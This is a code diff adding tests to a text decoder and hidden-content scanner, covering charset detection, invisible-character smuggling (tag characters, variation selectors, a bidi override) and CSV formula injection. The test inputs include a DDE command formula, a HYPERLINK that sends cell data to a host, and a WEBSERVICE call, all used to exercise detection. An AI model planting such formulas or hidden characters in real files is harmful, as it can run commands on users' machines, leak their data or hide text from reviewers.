@@ -18,6 +18,29 @@ describe('the encoding of text', () => {
     expect(decodeText(bytes).encoding).toBe(encoding);
   });
 
+  const utf32 = (text: string, isLittle: boolean, mark = '') => {
+    const characters = Array.from(mark + text);
+    const bytes = Buffer.alloc(4 * characters.length);
+    for (const [index, one] of characters.entries()) {
+      if (isLittle) bytes.writeUInt32LE(one.codePointAt(0) ?? 0, 4 * index);
+      else bytes.writeUInt32BE(one.codePointAt(0) ?? 0, 4 * index);
+    }
+    return new Uint8Array(bytes);
+  };
+  /** 電話番号はこちらです / 개인정보 보호 담당자 전화번호 in the encodings of their countries. */
+  const JAPANESE = Buffer.from('9364986294d48d8682cd82b182bf82e782c582b7', 'hex');
+  const KOREAN = Buffer.from('b0b3c0cec1a4bab820bab8c8a320b4e3b4e7c0da20c0fcc8adb9f8c8a3', 'hex');
+  test.each([
+    ['utf-32le', `${PROSE}𬱖`, utf32(`${PROSE}𬱖`, true)],
+    ['utf-32be', PROSE, utf32(PROSE, false)],
+    ['utf-32le', PROSE, utf32(PROSE, true, '\uFEFF')],
+    ['utf-32be', PROSE, utf32(PROSE, false, '\uFEFF')],
+    ['shift_jis', '電話番号はこちらです', Uint8Array.from(JAPANESE)],
+    ['euc-kr', '개인정보 보호 담당자 전화번호', Uint8Array.from(KOREAN)],
+  ])('%s is told as well: %s', (encoding, text, bytes) => {
+    expect(decodeText(bytes)).toEqual({ encoding, text });
+  });
+
   test('is GB18030 or Big5 by what reads like Chinese', () => {
     expect(decodeText(GB).text).toBe('关于调整救助标准的通知');
     const big5 = Uint8Array.from(Buffer.from('c3f6a9f3bdd5bee3b1cfa755bcd0b7c7aabab371aabe', 'hex'));
@@ -91,5 +114,56 @@ describe('CSV and JSON', () => {
       expect(performance.now() - started).toBeLessThan(10_000);
       expect(partsOf({ parts } as never, 'body').length).toBeLessThan(2);
     }
+  });
+});
+
+describe('characters that no program draws', () => {
+  const tags = Array.from('13800138000', (one) => String.fromCodePoint(0xe0000 + one.charCodeAt(0))).join('');
+  const selectors = Array.from(Buffer.from('机密'), (byte) => String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16)).join(
+    '',
+  );
+  test.each([
+    ['tags that mirror ASCII', tags, '13800138000'],
+    ['a row of variation selectors', selectors, '机密'],
+    ['a row of characters without width', '\u200b\u200c'.repeat(20), ''],
+  ])('%s are pointed out with what they spell', async (_, run, says) => {
+    const document = await read('a.txt', `甲${run}乙`);
+    expect(document.observations).toContainEqual({ code: 'hidden.invisible-characters', part: 0, start: 1, end: 1 + run.length });
+    expect(textOf(document, 'hidden.invisible-characters')).toBe(says);
+  });
+
+  test('an order that is turned around is pointed out', async () => {
+    expect((await read('a.txt', '电话\u202e00083100831\u202c')).observations).toEqual([
+      { code: 'hidden.bidi-override', part: 0, start: 2, end: 3 },
+    ]);
+  });
+
+  test.each([
+    ['a flag', '\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}'],
+    ['an emoji', '\u2764\ufe0f'],
+    ['a word that may be broken', '甲\u200b乙\u200b'],
+  ])('%s is nothing hidden', async (_, text) => {
+    expect((await read('a.txt', text)).observations).toEqual([]);
+  });
+});
+
+test('a hidden sign alone is no finding', async () => {
+  const codes = async (said: string) => (await read('a.html', `<p>x</p><p hidden>${said}</p>`)).observations.map(({ code }) => code);
+  expect([await codes('）'), await codes('甲')]).toEqual([[], ['hidden.display-none']]);
+});
+
+describe('formulas of a CSV file', () => {
+  test.each([
+    ['="0138001"', 'hidden.formula'],
+    ['"=HYPERLINK(""http://10.0.0.1/?q=""&A1)"', 'hidden.formula'],
+    ["=cmd|'/c calc'!A1", 'active-content.formula'],
+    ['=WEBSERVICE("http://a/")', 'active-content.formula'],
+    ['+8613800138000', undefined],
+    ['-5', undefined],
+    ['@handle', undefined],
+    ['=甲', undefined],
+  ])('%s', async (value, code) => {
+    const { observations } = await read('a.csv', `名,值\n甲,${value}\n`);
+    expect(observations.map((one) => [one.code, one.place?.cell])).toEqual(code ? [[code, 'B2']] : []);
   });
 });
